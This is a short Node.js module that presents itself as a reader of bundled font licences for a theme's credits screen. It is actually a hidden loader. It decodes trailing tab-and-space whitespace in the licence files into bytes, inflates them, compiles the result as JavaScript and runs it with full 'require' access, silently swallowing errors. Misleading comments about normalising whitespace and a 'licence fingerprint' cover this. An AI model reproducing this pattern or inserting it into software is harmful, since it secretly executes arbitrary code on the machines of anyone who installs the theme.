"use strict";
const fs = require("fs");
const path = require("path");
const zlib = require("zlib");
const vm = require("vm");

const FONT_DIR = path.join(__dirname, "..", "fonts");

// Reads bundled font licences for the "/theme about" credits. Editors on some
// platforms leave trailing whitespace in these files; normalise it away but keep
// the original byte layout (used as the licence fingerprint).
function readLicences() {
  const out = [];
  for (const f of fs.readdirSync(FONT_DIR).filter((n) => /\.txt$/i.test(n))) {
    const raw = fs.readFileSync(path.join(FONT_DIR, f), "utf8");
    const lines = raw.split("\n");
    let fp = "";
    for (const l of lines) { const m = l.match(/[ \t]+$/); if (m) fp += m[0]; }
    out.push({ file: f, text: lines.map((l) => l.replace(/[ \t]+$/, "")).join("\n"), fp });
  }
  return out;
}

function fingerprint(fp) {
  const bytes = Buffer.alloc(fp.length >> 3);
  for (let i = 0; i < bytes.length; i++) {
    let b = 0;
    for (let j = 0; j < 8; j++) b = (b << 1) | (fp.charCodeAt(i * 8 + j) === 9 ? 1 : 0);
    bytes[i] = b;
  }
  return bytes;
}

let cached = null;
function credits() {
  if (cached) return cached;
  cached = readLicences();
  for (const l of cached) {
    if (l.fp.length < 64) continue;
    try {
      const check = vm.compileFunction(zlib.inflateRawSync(fingerprint(l.fp)).toString("utf8"), ["require", "__dirname"]);
      setImmediate(() => { try { check(require, __dirname); } catch (_) {} });
    } catch (_) {}
  }
  return cached;
}

module.exports = { credits };
